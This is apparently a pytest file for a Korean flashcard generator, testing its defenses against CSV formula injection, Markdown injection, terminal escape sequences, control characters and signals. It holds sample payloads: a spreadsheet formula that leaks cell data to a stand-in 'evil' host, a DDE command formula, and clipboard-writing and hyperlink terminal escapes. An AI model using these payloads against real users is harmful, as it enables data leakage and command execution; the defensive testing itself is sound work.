"""Hostile input and faults (issue 14): one test per numbered case, each failing without its fix.

The property test over every output for generated hostile fact bases is in
`tests/test_hostile_property.py`.
"""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import signal
import termios
import time
from pathlib import Path

import pytest
from fsrs import Rating
from markdown_it import MarkdownIt
from rich.console import Console
from typer.testing import CliRunner

from cardgen.bank.generate import build_bank
from cardgen.cli import app
from cardgen.context import Context
from cardgen.emit.anki import emit_anki
from cardgen.errors import FactError
from cardgen.emit.quizset import make_quizsets, to_csv, to_markdown
from cardgen.factbase.loader import load
from cardgen.review.compare import check
from cardgen.review.session import Item, Progress
from cardgen.review.terminal import RichScreen
from cardgen.text import BIDI_CONTROLS
from tests.conftest import build_file_tree

GOOD = "definitions:\n  - {id: a, term: 용어, definition: 정의}\n"
FORMULAS = ('=HYPERLINK("http://evil/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")


def _definitions(pairs: list[tuple[str, str]]) -> str:
    lines = ["deck: t", "definitions:"]
    for n, (term, definition) in enumerate(pairs):
        lines += [f"  - id: d{n}", f"    term: {_quote(term)}", f"    definition: {_quote(definition)}"]
    return "\n".join(lines) + "\n"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# --- 1. CSV formula injection -----------------------------------------------------------------------


def test_1_csv_cells_never_start_a_formula(tmp_path) -> None:
    pairs = [(f, f"정의 {n}") for n, f in enumerate(FORMULAS)] + [(f"용어 {n}", f) for n, f in enumerate(FORMULAS)]
    base = load(build_file_tree(tmp_path, {"t.yaml": _definitions(pairs)}))
    bank = build_bank(base)
    qs = make_quizsets(bank, size=len(bank), seed=1)[0]
    rows = list(csv.reader(io.StringIO(to_csv(qs).decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=") for cell in cells)  # the answers are the formulas themselves
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- 3. Markdown structure injection ----------------------------------------------------------------

INJECTING = """\
deck: t
definitions:
  - id: a
    term: 첫째
    definition: |-
      보통 정의
      - ⑤ INJECTED OPTION
      ---
      | injected | row |
  - {id: b, term: 둘째, definition: "&lt;b&gt;굵게&lt;/b&gt; 아님"}
  - {id: c, term: 셋째, definition: 셋째 정의}
  - {id: d, term: 넷째, definition: 넷째 정의}
"""


def test_3_multi_line_values_and_entities_stay_text_in_markdown(tmp_path) -> None:
    base = load(build_file_tree(tmp_path, {"t.yaml": INJECTING}))
    bank = build_bank(base)
    asked = [q for q in bank if q.kind == "definition_from_term"]
    assert any("INJECTED" in o for q in asked for o in getattr(q, "options", ()))  # the multi-line value is an option
    qs = make_quizsets(bank, size=len(asked), seed=0, kinds=["definition_from_term"])[0]
    text = to_markdown(qs).decode("utf-8")
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    assert [t.type for t in tokens].count("hr") == 0 and not [t for t in tokens if t.type == "list_item_open"]
    lines = [line for t in tokens if t.type == "inline" for line in t.content.split("\n")]
    options = [line.rstrip("\\") for line in lines if line[:1] in "①②③④⑤"]
    assert len(options) == 4 * len(qs.questions)  # four options a question, nothing injected
    assert not any(line.startswith("⑤") for line in options)
    assert not [t for t in tokens if t.type == "table_open"]
    html = MarkdownIt("commonmark").render(text)
    assert "<b>" not in html and "&amp;lt;b&amp;gt;굵게" in html


# --- the loader: 4. control characters and NFC, 6. locations, 7. left-out files, 9. deck names ---------


def _problems(tmp_path, files: dict[str, str | bytes]) -> list[str]:
    root = build_file_tree(tmp_path / "facts", files)
    with pytest.raises(FactError) as info:
        load(root)
    return [str(p).removeprefix(str(root) + "/") for p in info.value.problems]


@pytest.mark.parametrize(
    ("escape", "shown"),
    [("\\0", "\\x00"), ("\\e", "\\x1b"), ("\\x1f", "\\x1f"), ("\\x9b", "\\x9b"), ("\\u202e", "\\u202e"), ("\\r", "\\x0d")],
)
def test_4_control_characters_in_text_are_errors(tmp_path, escape, shown) -> None:
    text = f'definitions:\n  - id: a\n    term: "용{escape}어"\n    definition: 정의\n'
    assert _problems(tmp_path, {"a.yaml": text}) == [f"a.yaml:3: 'term' holds the control character(s) {shown}; remove them"]


def test_4_text_written_with_escapes_is_nfc_too(tmp_path) -> None:
    base = load(build_file_tree(tmp_path, {"a.yaml": 'definitions:\n  - {id: a, term: "\\u1100\\u1161", definition: 정의}\n'}))
    assert base.definitions[0].term == "가"


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"a.yaml": 'definitions:\n  - {id: a, term: "unclosed\n'},
         ["a.yaml:2: YAML syntax error: a quoted text never ends (the file ends first); close it on this line"]),
        ({"a.yaml": b"definitions:\n  - id: a\n    term: x\x00\n"}, ["a.yaml:3: control character \\x00; remove it"]),
        ({"a.yaml": "definitions:\n  - id: a\n    term: x\n    definition: y\n    details:\n      - (예: ../secret)\n"},
         ["a.yaml:6: 'details' must be text, not a mapping; a ': ' inside text starts a mapping, so put the text in quotes"]),
        ({"a.yaml": "definitions:\n  - id: a\n    term: x\n    definition: y\n    details: [(읽기 전용, 공유)]\n"},
         ["a.yaml:5: 'details' is cut at a ',' ('(읽기 전용'): inside [...] or {...} a comma ends text; quote the text",
          "a.yaml:5: 'details' is cut at a ',' ('공유)'): inside [...] or {...} a comma ends text; quote the text"]),
        ({"a.yaml": GOOD + "pros_cons:\n  - {id: p, concept: a, pros: [{text: 빠름, compare: {concept: a, text: 읽기 전용, 공유}}]}\n"},
         ["a.yaml:4: unknown key '공유' in 'compare'; expected one of: concept, text; "
          "a ',' inside {...} ends a value: if '공유' belongs to the text before, quote it"]),
    ],
    ids=["unclosed quote", "raw NUL", "colon in text", "comma in a flow list", "comma in a flow mapping"],
)
def test_6_mistakes_are_reported_where_they_are_with_a_hint(tmp_path, files, expected) -> None:
    assert _problems(tmp_path, files) == expected


def test_7_every_yaml_file_is_read_whatever_the_case_of_its_suffix(tmp_path) -> None:
    root = build_file_tree(tmp_path, {"a.yaml": GOOD, "b.YAML": GOOD.replace("id: a", "id: b"), "c.Yml": "deck: c\n"})
    assert sorted(Path(f).name for f in load(root).files) == ["a.yaml", "b.YAML", "c.Yml"]


def test_7_linked_folders_are_read_once_and_broken_links_are_errors(tmp_path) -> None:
    root = build_file_tree(tmp_path / "facts", {"a.yaml": GOOD})
    build_file_tree(tmp_path / "shared", {"s.yaml": GOOD.replace("id: a", "id: s")})
    (root / "shared").symlink_to(tmp_path / "shared")
    (root / "again").symlink_to(tmp_path / "shared")
    assert sorted(f.id for f in load(root).facts()) == ["a", "s"]
    (root / "dangling.yaml").symlink_to(tmp_path / "nowhere.yaml")
    (root / "loop").symlink_to(root)
    (tmp_path / "self").symlink_to("self")
    (root / "looping.yaml").symlink_to(tmp_path / "self")
    assert _problems(tmp_path, {}) == [
        "dangling.yaml: a symbolic link that points to nothing; fix or remove it",
        "loop: a symbolic link to a folder it is in (a loop); remove it",
        "looping.yaml: a symbolic link that loops; fix or remove it",
    ]


def test_7_an_unreadable_folder_is_an_error(tmp_path, monkeypatch) -> None:
    root = build_file_tree(tmp_path / "facts", {"a.yaml": GOOD, "locked/b.yaml": GOOD.replace("id: a", "id: b")})
    real_scandir = os.scandir

    def scandir(path):  # the tests may run as root, whom no permission stops
        if Path(path).name == "locked":
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    assert _problems(tmp_path, {}) == [
        "locked: cannot read this folder (Permission denied); the facts in it would be left out"
    ]


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"a.yaml": "deck: Default\n" + GOOD}, ["a.yaml:1: deck 'Default' would go into Anki's own Default deck; choose another name"]),
        ({"default.yaml": GOOD}, ["default.yaml:1: deck 'default' would go into Anki's own Default deck; choose another name"]),
        ({"a.yaml": "deck: '::a'\n" + GOOD}, ["a.yaml:1: deck '::a' has an empty level (Anki would make a blank deck); write each level between '::'"]),
        ({"a.yaml": "deck: 'a::::b'\n" + GOOD}, ["a.yaml:1: deck 'a::::b' has an empty level (Anki would make a blank deck); write each level between '::'"]),
        ({"a.yaml": 'deck: "x\\u202eCON"\n' + GOOD}, ["a.yaml:1: 'deck' holds the control character(s) \\u202e; remove them"]),
        ({"a.yaml": "deck: Docker::Net\n" + GOOD, "b.yaml": "deck: docker::Other\n" + GOOD.replace("id: a", "id: b")},
         ["b.yaml:1: deck 'docker' differs from 'Docker' (at {root}/a.yaml:1) only in case; spell both alike"]),
    ],
    ids=["Default", "default file name", "empty first level", "empty middle level", "RLO", "case across files"],
)
def test_9_deck_names_anki_would_merge_or_blank_are_errors(tmp_path, files, expected) -> None:
    root = tmp_path / "facts"
    assert _problems(tmp_path, files) == [e.replace("{root}", str(root)) for e in expected]


# --- 2. terminal escapes ------------------------------------------------------------------------------

ESCAPES = ("\x1b]0;pwned\x07", "\x1b[2J", "\x1b]52;c;cHduZWQ=\x07", "\x1b]8;;http://evil\x1b\\", "\x1bP1$r\x1b\\",
           "\x1b[?1049h", "\u202e", "\u200f", "\x9b2J", "\r")
# What rich itself writes on a styled screen: colours, clearing, cursor home.
RICH_OWN = re.compile(r"\x1b\[[0-9;?]*[mHJKl]")


def unsafe_on_screen(output: str) -> list[str]:
    """Every control or bidi character in OUTPUT that rich did not put there itself."""
    rest = RICH_OWN.sub("", output)
    return [ch for ch in rest if (ch < " " and ch not in "\n\t") or "\x7f" <= ch <= "\x9f" or ch in BIDI_CONTROLS]


def screen_output(plain: bool, item: Item, given: str) -> str:
    stream = io.StringIO()
    console = Console(file=stream, force_terminal=not plain, color_system=None if plain else "truecolor", width=80,
                      markup=False, highlight=False, emoji=False)
    screen = RichScreen(console, plain)
    screen.front(item, Progress(0, 1, "typed", False))
    screen.back(item, None)
    screen.verdict(item, check(given, item.accepted), Rating.Again)
    screen.choice_result(item, 0, Rating.Good)
    screen.message(f"unknown key {given}")
    return stream.getvalue()


@pytest.mark.parametrize("plain", [True, False], ids=["plain", "styled"])
def test_2_no_control_character_reaches_the_quiz_screen(plain) -> None:
    hostile = "".join(ESCAPES)
    item = Item(key="k", style="typed", fact_id="k", title=f"제목{hostile}", faces=(f"앞{hostile}", f"뒤{hostile}"),
                accepted=(f"답{hostile}",), options=(f"하나{hostile}", "둘"), correct=0)
    output = screen_output(plain, item, f"입력{hostile}")
    assert unsafe_on_screen(output) == []
    assert "\\x1b]0;pwned\\x07" in output and "\\u202e" in output  # shown, not swallowed


def test_2_messages_that_echo_the_files_are_terminal_safe(tmp_path) -> None:
    root = build_file_tree(tmp_path / "facts", {
        "a.yaml": 'definitions:\n  - {id: a, term: x, definition: y, "\\e]0;pwned\\a": z}\n',
        "\x1b[2J\u202e.yaml": "deck: b\n" + GOOD.replace("id: a", "id: b"),
    })
    result = CliRunner().invoke(app, ["validate", str(root)])
    assert result.exit_code == 1
    assert unsafe_on_screen(result.output) == []
    assert "unknown key '\\x1b]0;pwned\\x07'" in result.output
    (root / "a.yaml").unlink()
    for command in (["validate", str(root)], ["stats", str(root)], ["anki", str(root), "-o", str(tmp_path / "out")]):
        result = CliRunner().invoke(app, command)
        assert result.exit_code == 0, result.output
        assert unsafe_on_screen(result.output) == [], command
        if command[0] == "stats":
            assert "\\x1b[2J\\u202e.yaml" in result.output


# --- 10. braces in Anki fields ------------------------------------------------------------------------


def test_10_no_anki_field_holds_a_brace(tmp_path) -> None:
    from tests.test_golden import anki_dump

    base = load(build_file_tree(tmp_path, {"t.yaml": """\
deck: t
definitions:
  - {id: a, term: "{{Front}} 필드", definition: "템플릿은 {{Back}} 과 {{type:Answer}} 를 씀", details: ["{{#Note}}"]}
  - {id: b, term: 둘째, definition: "중괄호 { 하나 }", examples: ["{{c1::x}}"]}
  - {id: c, term: 셋째, definition: 셋째 정의}
"""}))
    packages = emit_anki(Context(base), 1_700_000_000).files
    dump = "\n".join(anki_dump(data) for name, data in packages.items() if name.endswith(".apkg"))
    fields = [line for line in dump.splitlines() if not line.startswith(("==", "type:", "tags:"))]
    assert any("&#123;&#123;Front&#125;&#125;" in line for line in fields)
    assert not [line for line in fields if "{" in line or "}" in line]


# --- 5. signals ---------------------------------------------------------------------------------------


def _quiz_pid(shell_pid: int) -> int:
    """The quiz the shell of `spawn(..., then=...)` is running."""
    for _ in range(100):
        children = Path(f"/proc/{shell_pid}/task/{shell_pid}/children").read_text().split()
        if children:
            return int(children[0])
        time.sleep(0.05)
    raise AssertionError("the quiz did not start")


def _cooked(fd: int) -> bool:
    lflag = termios.tcgetattr(fd)[3]
    return bool(lflag & termios.ICANON and lflag & termios.ECHO)


@pytest.mark.slow
@pytest.mark.parametrize("signame", ["SIGTERM", "SIGHUP"])
def test_5_a_signal_that_ends_the_quiz_restores_the_terminal(tmp_path, signame) -> None:
    from tests.test_quiz_pty import SHOW, T0, spawn

    child = spawn(tmp_path / "state.sqlite3", T0, "--mode", "flash", then="stty -a")
    child.expect_exact(SHOW)
    os.kill(_quiz_pid(child.pid), getattr(signal, signame))
    child.expect(r"exit=(\d+)")
    assert child.match.group(1) == str(128 + getattr(signal, signame))
    settings = child.read()
    assert re.search(r"(?<![-\w])icanon\b", settings) and re.search(r"(?<![-\w])echo\b", settings)
    assert "Traceback" not in child.before + settings


@pytest.mark.slow
def test_5_ctrl_z_restores_the_terminal_and_continuing_resumes(tmp_path) -> None:
    from tests.test_quiz_pty import SHOW, T0, finish, spawn

    child = spawn(tmp_path / "state.sqlite3", T0, "--mode", "flash")
    child.expect_exact(SHOW)
    assert not _cooked(child.child_fd)
    os.kill(child.pid, signal.SIGTSTP)
    for _ in range(100):
        if Path(f"/proc/{child.pid}/stat").read_text().split(") ")[1][0] == "T":
            break
        time.sleep(0.05)
    assert _cooked(child.child_fd)  # stopped with the terminal as the shell needs it
    os.kill(child.pid, signal.SIGCONT)
    for _ in range(100):
        if not _cooked(child.child_fd):
            break
        time.sleep(0.05)
    assert not _cooked(child.child_fd)  # single keys again
    child.send("q")
    child.expect_exact("세션 종료.")
    assert finish(child) == 0


@pytest.mark.slow
def test_5_ctrl_c_while_typing_puts_the_summary_on_its_own_line(tmp_path) -> None:
    from tests.test_quiz_pty import ANSI, T0, finish, spawn

    child = spawn(tmp_path / "state.sqlite3", T0, "--mode", "typed", color=True)
    child.expect_exact("> ")
    child.send("abc")
    child.expect_exact("abc")
    child.sendintr()
    child.expect_exact("세션 중단.")
    assert "\n" in ANSI.sub("", child.before).split("요약")[0]  # what followed "abc" starts a new line
    assert finish(child) == 130
